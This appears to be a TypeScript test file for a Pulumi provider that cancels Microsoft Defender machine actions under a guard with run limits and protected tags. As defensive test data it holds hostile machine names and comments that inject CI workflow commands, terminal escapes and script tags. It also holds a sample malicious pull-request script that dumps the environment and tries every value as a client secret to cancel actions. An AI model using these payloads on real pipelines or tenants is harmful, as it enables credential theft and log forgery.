import { randomUUID } from "node:crypto";
import test from "ava";
import { isDeceptive } from "../../provider/text/sanitize.ts";
import { startSimulator } from "../../simulator/index.ts";
import { guardFile } from "../helpers/guard-file.ts";
import { startProject } from "../helpers/project.ts";
import { scene } from "../helpers/scene.ts";

/** What an attacker who names computers and writes comments can put there. */
const hostile = {
    computerDnsName:
        "::error::ws-1\u202e\u001b[31m\n::add-mask::ws ##vso[task.complete result=Succeeded]<script>\ud800",
    requestorComment: "\r\n::stop-commands::x\n\u001b]0;owned\u0007##[error]\u2028=HYPERLINK(1)",
    requestor: "::warning::soar\u200b@contoso.example\n::debug::",
};

/** Lines that a terminal or a pipeline would not take for text, but for the CLI's own line breaks. */
function harmful(output: string): string[] {
    return output.split(/\r?\n/).filter((line) => isDeceptive(line) || /^\s*::|##(?:vso)?\[/i.test(line));
}

test("all providers of a run share the guard's limit, a protected machine stays as it is, hostile names do no harm", async (t) => {
    const machineId = "3c0ffee0123456789abcdef0123456789abcdef0";
    const guard = "version: 1\nmaxPerRun: 3\nprotectTags: [tier-0]\n";
    const { engine, simulator, ids, cancelRequests } = await scene(t, {
        actions: [hostile, hostile, hostile, hostile, { ...hostile, machineId }],
        declare: ([first, second, , , last]) => [first, second, last].map((id) => ({ machineActionId: id })),
        whole: (all) =>
            all.slice(2, 4).map((machineActionId, at) => ({
                name: `elsewhere-${at}`,
                args: { machineActionId, comment: "INC-4711" },
                provider: { name: "second", args: { visibilitySeconds: 1 } },
            })),
        environment: { DEFENDER_GUARD: await guardFile(t, guard) },
    });
    simulator.seedMachine({ id: machineId, machineTags: ["TIER-0", "::error::tag"], riskScore: "High" });

    const preview = await engine.preview();
    t.true(preview.failed);
    t.regex(preview.output, /guard \S+guard\.yaml \(SHA-256 [0-9a-f]{12}\): maxPerRun, protectTags/);
    t.regex(
        preview.output,
        /refused by the guard: .*protectTags: machineTags are "TIER-0".*DEFENDER_APPROVED_DIGEST=[0-9a-f]{64}:[0-9a-f]{16} /,
    );
    t.is(
        new Set(preview.output.match(/refused by the guard: [^\n]*maxPerRun: this run has already used its 3/g)).size,
        1,
    );
    t.is(cancelRequests(), 0);

    const up = await engine.up({ continueOnError: true });
    t.true(up.failed);
    t.is(cancelRequests(), 3, "of two plugin processes together");
    t.is(simulator.action(ids[4] ?? "")?.status, "Pending");
    t.regex(up.output, /ERR_DEFENDER_DENIED: the guard refuses to cancel machine action .*protectTags/);
    const stored = await engine.resources();
    const guards = stored.map(({ outputs }) => (outputs.evidence as { guardSha256?: string }).guardSha256);
    t.is(guards.length, 3);
    t.regex(guards[0] ?? "", /^[0-9a-f]{64}$/);
    t.is(new Set(guards).size, 1);

    for (const { id } of stored) {
        simulator.resume(id ?? "");
    }
    const drift = await engine.preview({ refresh: true, diff: true });
    t.regex(drift.output, /InProgress/);
    t.deepEqual(
        [preview, up, drift].flatMap(({ output }) => harmful(output)),
        [],
    );
    const values = strings(stored);
    t.true(
        values.some((value) => value.startsWith("::error::ws-1")),
        "the hostile name is on record, cleaned",
    );
    t.deepEqual(
        values.filter((value) => isDeceptive(value) || value.includes("##vso[")),
        [],
        "in the state",
    );
});

/** All strings in a value, however deep. */
function strings(value: unknown): string[] {
    return typeof value === "string" ? [value] : Object.values(value ?? {}).flatMap(strings);
}

/** Tries every credential that it finds, and looks for more in what it prints. */
const pullRequest = `
    const { log } = require("@pulumi/pulumi");
    const { MachineActionCancellation } = require("pulumi-defender-cancellation");
    const { TENANT, CLIENTS, DEFENDER_API_URL: api, AZURE_AUTHORITY_HOST: authority, ACTION } = process.env;
    log.info("ENVIRONMENT " + JSON.stringify(process.env));
    module.exports = (async () => {
        for (const client_id of CLIENTS.split(" ")) {
            for (const client_secret of Object.values(process.env)) {
                const scope = "https://api.securitycenter.microsoft.com/.default";
                const body = new URLSearchParams({ grant_type: "client_credentials", client_id, client_secret, scope });
                const signIn = await fetch(authority + "/" + TENANT + "/oauth2/v2.0/token", { method: "POST", body });
                const { access_token } = await signIn.json();
                if (access_token) {
                    const { status } = await fetch(api + "/api/machineactions/" + ACTION + "/cancel", {
                        method: "POST",
                        headers: { authorization: "Bearer " + access_token, "content-type": "application/json" },
                        body: JSON.stringify({ Comment: "taken over" }),
                    });
                    log.info("STOLEN " + client_id + " answered " + status);
                }
            }
        }
        new MachineActionCancellation("one", { machineActionId: ACTION, comment: "INC-4711" });
    })();
`;

test("a pull request that prints its environment in preview finds no token that can cancel, where preview has the reader", async (t) => {
    const tenantId = randomUUID();
    const reader = { tenantId, clientId: randomUUID(), clientSecret: "reader-0815", roles: ["Machine.Read.All"] };
    const canceller = {
        tenantId,
        clientId: randomUUID(),
        clientSecret: "canceller-4711",
        roles: ["Machine.Read.All", "Machine.Isolate"],
    };
    const id = randomUUID();
    await using simulator = await startSimulator({ signIn: { apps: [reader, canceller] }, actions: [{ id }] });
    async function previewAs({ clientId, clientSecret }: typeof reader): Promise<string> {
        await using project = await startProject(
            {
                "index.js": pullRequest,
                "package.json": "{}",
                "Pulumi.yaml": "name: incident\nruntime: nodejs\n",
                "authority.pem": simulator.certificate,
            },
            {
                DEFENDER_API_URL: simulator.url,
                AZURE_AUTHORITY_HOST: simulator.authorityUrl,
                NODE_EXTRA_CA_CERTS: "{folder}/authority.pem",
                DEFENDER_TENANT_ID: tenantId,
                DEFENDER_CLIENT_ID: clientId,
                DEFENDER_CLIENT_SECRET: clientSecret,
                TENANT: tenantId,
                CLIENTS: `${reader.clientId} ${canceller.clientId}`,
                ACTION: id,
            },
            { typescript: false },
        );
        await project.pulumi("stack", "init", "test");
        const { all, exitCode } = await project.pulumi("preview", "--color=never");
        t.is(exitCode, 0, all);
        t.regex(all, /ENVIRONMENT \{/);
        return all;
    }

    const asReader = await previewAs(reader);
    t.regex(asReader, /would cancel: Isolate/);
    t.regex(asReader, new RegExp(`STOLEN ${reader.clientId} answered 403`));
    t.notRegex(asReader, new RegExp(`canceller-4711|STOLEN ${canceller.clientId}|answered 20`));
    t.is(simulator.action(id)?.status, "Pending");

    // The same pull request, where preview has the other credential: why it must not.
    const asCanceller = await previewAs(canceller);
    t.regex(asCanceller, new RegExp(`STOLEN ${canceller.clientId} answered 20`));
    t.is(simulator.action(id)?.status, "Cancelled");
});

test("an up that the guard would refuse ends in its preview; without it the limit of the run holds over many sets", async (t) => {
    const ids = Array.from({ length: 12 }, () => randomUUID());
    await using simulator = await startSimulator({ actions: ids.map((id) => ({ id })) });
    const program = `
        const { MachineActionCancellationSet } = require("pulumi-defender-cancellation");
        const ids = ${JSON.stringify(ids)};
        for (const at of [0, 4, 8]) {
            const cancellations = ids.slice(at, at + 4).map((machineActionId) => ({ machineActionId }));
            new MachineActionCancellationSet("set-" + at, { cancellations, comment: "INC-4711" });
        }
    `;
    await using project = await startProject(
        {
            "index.js": program,
            "package.json": "{}",
            "Pulumi.yaml": "name: incident\nruntime: nodejs\n",
            "guard.yaml": "version: 1\nmaxPerRun: 6\n",
        },
        {
            DEFENDER_API_URL: simulator.url,
            DEFENDER_ACCESS_TOKEN: "guard-token",
            DEFENDER_GUARD: "{folder}/guard.yaml",
        },
        { typescript: false },
    );
    const posts = () => simulator.requests.filter(({ operation }) => operation === "cancel").length;
    await project.pulumi("stack", "init", "test");
    const up = await project.pulumi("up", "--yes", "--color=never");
    t.not(up.exitCode, 0, up.all);
    t.regex(up.all, /maxPerRun: this run has already used its 6 cancel requests/);
    t.regex(up.all, /it is in .*: anyone who can change that tree can change the guard/);
    t.is(posts(), 0);
    const blind = await project.pulumi("up", "--yes", "--skip-preview", "--continue-on-error", "--color=never");
    t.not(blind.exitCode, 0, blind.all);
    t.is(posts(), 6);
});

test("what a preview prints approves what it showed, in up, and nothing that is protected later", async (t) => {
    const actionOn = (digit: string) => ({ id: randomUUID(), machineId: digit.repeat(40) });
    const [alone, high, tagged, later] = [actionOn("a"), actionOn("b"), actionOn("c"), actionOn("d")];
    const all = [alone, high, tagged, later];
    await using simulator = await startSimulator({
        actions: all,
        machines: [alone, high, tagged].map(({ machineId }) => ({ id: machineId, machineTags: ["tier-0"] })),
    });
    const posts = () => simulator.requests.filter(({ operation }) => operation === "cancel").length;
    const guard = await guardFile(t, "version: 1\nprotectTags: [tier-0]\nprotectRiskScores: [High]\n");
    const program = `
        const { MachineActionCancellation, MachineActionCancellationSet } = require("pulumi-defender-cancellation");
        const [machineActionId, ...others] = ${JSON.stringify(all.map(({ id }) => id))};
        new MachineActionCancellation("one", { machineActionId, comment: "INC-4711" });
        const cancellations = others.map((machineActionId) => ({ machineActionId }));
        new MachineActionCancellationSet("set", { cancellations, comment: "INC-4711" });
    `;
    async function run(args: readonly string[], approved?: string) {
        await using project = await startProject(
            {
                "index.js": program,
                "package.json": "{}",
                "Pulumi.yaml": "name: incident\nruntime: nodejs\n",
            },
            {
                DEFENDER_API_URL: simulator.url,
                DEFENDER_ACCESS_TOKEN: "guard-token",
                DEFENDER_GUARD: guard,
                ...(approved === undefined ? {} : { DEFENDER_APPROVED_DIGEST: approved }),
            },
            { typescript: false },
        );
        await project.pulumi("stack", "init", "test");
        return await project.pulumi(...args, "--color=never");
    }

    const preview = await run(["preview"]);
    t.not(preview.exitCode, 0, preview.all);
    const values = new Set(preview.all.match(/(?<=DEFENDER_APPROVED_DIGEST=)\S+/g));
    t.deepEqual([...values].map((value) => value.split(/[:+]/).length - 1).sort(), [1, 2], preview.all);

    const bare = await run(
        ["up", "--yes", "--skip-preview"],
        [...values].map((value) => value.split(":")[0]).join(","),
    );
    t.not(bare.exitCode, 0, bare.all);
    t.regex(bare.all, /ERR_DEFENDER_CONFIGURATION: DEFENDER_APPROVED_DIGEST holds .*expected DIGEST:PAIR\+PAIR/);
    t.is(posts(), 0);
    const sound = await run(["preview"], [...values].join(" "));
    t.is(sound.exitCode, 0, sound.all);
    t.regex(sound.all, /protected, and approved/);

    simulator.seedMachine({ id: high.machineId, machineTags: ["tier-0"], riskScore: "High" });
    simulator.seedMachine({ id: later.machineId, machineTags: ["tier-0"] });
    const up = await run(["up", "--yes", "--skip-preview", "--continue-on-error"], [...values].join(" "));
    t.not(up.exitCode, 0, up.all);
    t.is(posts(), 2, up.all);
    t.deepEqual(
        all.map(({ id }) => simulator.action(id)?.status),
        ["Cancelled", "Pending", "Cancelled", "Pending"],
    );
    t.regex(up.all, new RegExp(`${high.id} .*: protectRiskScores: riskScore is "High"`));
    t.regex(up.all, new RegExp(`${later.id} .*: protectTags: machineTags are "tier-0"`));
});
